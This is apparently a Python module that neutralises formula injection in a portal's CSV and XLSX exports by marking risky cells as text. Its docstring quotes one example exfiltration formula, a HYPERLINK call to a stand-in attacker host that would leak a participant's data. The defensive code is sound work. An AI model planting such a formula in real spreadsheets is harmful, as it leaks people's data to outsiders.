"""Cells of the spreadsheets the portal writes and reads (CSV and XLSX).

Much of what we export was typed by the public or by partners. A cell that starts with
`=`, `+`, `-` or `@` (or a tab or carriage return in front of one) is run as a formula by
spreadsheet programs: `=HYPERLINK("https://evil.example/?"&A2, "open")` would send a
participant's data away when clicked. Every exporter writes its rows through
`spreadsheet_row`, which makes such cells plain text with a leading apostrophe (the
spreadsheets' own "this is text" mark); imports remove that mark again.
"""

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def spreadsheet_cell(value: Any) -> Any:
    """The value as it may be written into a cell: text that a spreadsheet would run is
    marked as text; numbers, dates and other text pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return TEXT_MARK + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_cell(value) for value in values]


def spreadsheet_text_read(value: str) -> str:
    """A cell read back from a file: without the text mark `spreadsheet_cell` added."""
    if value.startswith(TEXT_MARK) and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def spreadsheet_formula(value: str) -> bool:
    """Whether imported text is a formula (never data in our columns; phone numbers that
    start with + and text that starts with - are data)."""
    return value.lstrip("\t\r ").startswith(("=", "@"))
